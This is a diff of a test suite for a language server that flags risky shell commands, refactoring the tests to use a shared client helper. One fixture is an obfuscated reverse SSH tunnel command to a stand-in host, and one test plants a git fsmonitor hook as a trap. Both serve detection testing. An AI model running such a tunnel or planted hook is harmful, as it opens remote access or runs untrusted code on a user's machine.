@@ -1,29 +1,20 @@
 /** The built server, spoken to as an editor speaks to it, over standard input and output. */
 import assert from "node:assert/strict";
-import { type ChildProcess, execFileSync, spawn } from "node:child_process";
+import { execFileSync } from "node:child_process";
 import { chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { fileURLToPath, pathToFileURL } from "node:url";
-import type { Diagnostic, Hover, PublishDiagnosticsParams } from "vscode-languageserver";
-import {
-  CancellationTokenSource,
-  createMessageConnection,
-  type MessageConnection,
-  ResponseError,
-  StreamMessageReader,
-  StreamMessageWriter,
-  WorkDoneProgress,
-} from "vscode-languageserver/node";
-import type { DocumentVerdict, Method, Requests } from "../../extension/server/protocol.ts";
+import { pathToFileURL } from "node:url";
+import type { Hover } from "vscode-languageserver";
+import { CancellationTokenSource, ResponseError, WorkDoneProgress } from "vscode-languageserver/node";
+import { type ServerClient, startServer } from "../../scripts/server-client.ts";
 
-const program = fileURLToPath(new URL("../../dist/server.js", import.meta.url));
 const rule = "command/reverse-ssh-tunnel";
 const tunnel = "timeout 5 s\\sh -fNR 9:localhost:22 agent@203.0.113.7";
 
 describe("the language server", () => {
   const folders: string[] = [];
-  let open: Client | undefined;
+  let open: ServerClient | undefined;
 
   function folder(files: Readonly<Record<string, string>>): string {
     const path = mkdtempSync(join(tmpdir(), "countersign-server-"));
@@ -40,7 +31,7 @@ describe("the language server", () => {
 
   it("publishes findings with range, code and the address of the rule's page", async () => {
     const path = folder({});
-    open = await start(path, true);
+    open = await startServer(path, true);
     const [found] = await open.diagnosticsOf(join(path, "a.sh"), `echo\n${tunnel}\n`);
     assert.ok(found);
     assert.equal(found.code, rule);
@@ -50,7 +41,7 @@ describe("the language server", () => {
 
   it("tells on hovering what the rule saw", async () => {
     const path = folder({});
-    open = await start(path, true);
+    open = await startServer(path, true);
     const file = join(path, "a.sh");
     await open.diagnosticsOf(file, `${tunnel}\n`);
     const params = { textDocument: { uri: pathToFileURL(file).href }, position: { line: 0, character: 12 } };
@@ -61,7 +52,7 @@ describe("the language server", () => {
   it("starts no git in a folder that is not trusted, and shows everything there", async () => {
     const path = folder({ "a.sh": `${tunnel}\n` });
     const trap = trapped(path);
-    open = await start(path, false);
+    open = await startServer(path, false);
     const found = await open.diagnosticsOf(join(path, "a.sh"), `${tunnel}\n`);
     assert.equal(found.length, 1);
     await assert.rejects(
@@ -74,7 +65,7 @@ describe("the language server", () => {
   it("compares with git once the folder is trusted, and runs nothing of the repository for it", async () => {
     const path = folder({ "a.sh": `${tunnel}\n` });
     const trap = trapped(path);
-    open = await start(path, false);
+    open = await startServer(path, false);
     await open.diagnosticsOf(join(path, "a.sh"), `${tunnel}\n`);
     const verdict = open.nextVerdict(({ hidden }) => hidden === 1);
     await open.connection.sendNotification("countersign/trusted", {});
@@ -85,14 +76,14 @@ describe("the language server", () => {
   it("shows all findings of a repository where there is no git to compare with", async () => {
     const path = folder({ "a.sh": `${tunnel}\n` });
     trapped(path);
-    open = await start(path, true, { PATH: join(path, "nothing") });
+    open = await startServer(path, true, { PATH: join(path, "nothing") });
     assert.equal((await open.diagnosticsOf(join(path, "a.sh"), `${tunnel}\n`)).length, 1);
   });
 
   it("stops an audit when it is cancelled", async () => {
     const lines = "cp a b\n".repeat(2_000);
     const path = folder(Object.fromEntries(Array.from({ length: 200 }, (_, index) => [`${index}.sh`, lines])));
-    open = await start(path, true);
+    open = await startServer(path, true);
     const cancellation = new CancellationTokenSource();
     let audited = 0;
     open.connection.onProgress(WorkDoneProgress.type, "audit", (step) => {
@@ -106,7 +97,7 @@ describe("the language server", () => {
   });
 
   it("says in words that there is no such rule", async () => {
-    open = await start(folder({}), true);
+    open = await startServer(folder({}), true);
     await assert.rejects(open.ask("countersign/rulePage", { rule: "command/none" }), (error) => {
       assert.ok(error instanceof ResponseError);
       assert.match(error.message, /no rule named command\/none/);
@@ -117,13 +108,13 @@ describe("the language server", () => {
 
   it("says in words that a folder is no repository", async () => {
     const path = folder({});
-    open = await start(path, true);
+    open = await startServer(path, true);
     await assert.rejects(open.ask("countersign/review", { folder: pathToFileURL(path).href }), /not inside a git repository/);
   });
 
   it("survives what is no message of its protocol", async () => {
     const path = folder({});
-    open = await start(path, true);
+    open = await startServer(path, true);
     await open.connection.sendNotification("countersign/none", { what: 1 });
     await assert.rejects(open.connection.sendRequest("countersign/auditSession", { uri: 7 }));
     assert.equal((await open.diagnosticsOf(join(path, "a.sh"), `${tunnel}\n`)).length, 1);
@@ -144,68 +135,4 @@ function trapped(path: string): string {
   chmodSync(join(hooks, "run"), 0o755);
   git("config", "core.fsmonitor", join(hooks, "run"));
   return sprung;
-}
-
-interface Client {
-  readonly connection: MessageConnection;
-  readonly ask: <M extends Method>(method: M, params: Requests[M]["params"]) => Promise<Requests[M]["result"]>;
-  /** Opens a document and waits for what is said about it. */
-  readonly diagnosticsOf: (file: string, text: string) => Promise<readonly Diagnostic[]>;
-  readonly nextVerdict: (isIt: (verdict: DocumentVerdict) => boolean) => Promise<DocumentVerdict>;
-  readonly stop: () => Promise<void>;
-}
-
-async function start(folder: string, isTrusted: boolean, env: NodeJS.ProcessEnv = {}): Promise<Client> {
-  const child: ChildProcess = spawn(process.execPath, [program, "--stdio"], {
-    stdio: ["pipe", "pipe", "inherit"],
-    env: { ...process.env, ...env },
-  });
-  assert.ok(child.stdin !== null && child.stdout !== null);
-  const connection = createMessageConnection(new StreamMessageReader(child.stdout), new StreamMessageWriter(child.stdin));
-  const uri = pathToFileURL(folder).href;
-  connection.onRequest("workspace/configuration", ({ items }: { readonly items: readonly unknown[] }) => items.map(() => null));
-  connection.onRequest("client/registerCapability", () => null);
-  const verdictListeners = new Set<(verdict: DocumentVerdict) => void>();
-  connection.onNotification("countersign/documentVerdict", (verdict: DocumentVerdict) => {
-    for (const listener of verdictListeners) listener(verdict);
-  });
-  const published = new Map<string, (diagnostics: readonly Diagnostic[]) => void>();
-  connection.onNotification("textDocument/publishDiagnostics", (params: PublishDiagnosticsParams) =>
-    published.get(params.uri)?.(params.diagnostics),
-  );
-  connection.listen();
-  await connection.sendRequest("initialize", {
-    processId: process.pid,
-    rootUri: uri,
-    capabilities: { workspace: { configuration: true, workspaceFolders: true } },
-    workspaceFolders: [{ uri, name: "folder" }],
-    initializationOptions: { isTrusted },
-  });
-  await connection.sendNotification("initialized", {});
-  return {
-    connection,
-    ask: (method, params) => connection.sendRequest(method, params),
-    diagnosticsOf: (file, text) =>
-      new Promise((resolve) => {
-        const document = { uri: pathToFileURL(file).href, languageId: "shellscript", version: 1, text };
-        published.set(document.uri, resolve);
-        void connection.sendNotification("textDocument/didOpen", { textDocument: document });
-      }),
-    nextVerdict: (isIt) =>
-      new Promise((resolve) => {
-        const listener = (verdict: DocumentVerdict): void => {
-          if (!isIt(verdict)) return;
-          verdictListeners.delete(listener);
-          resolve(verdict);
-        };
-        verdictListeners.add(listener);
-      }),
-    stop: async () => {
-      await connection.sendRequest("shutdown");
-      await connection.sendNotification("exit");
-      const gone = new Promise((resolve) => child.once("exit", resolve));
-      if (child.exitCode === null) await gone;
-      connection.dispose();
-    },
-  };
 }
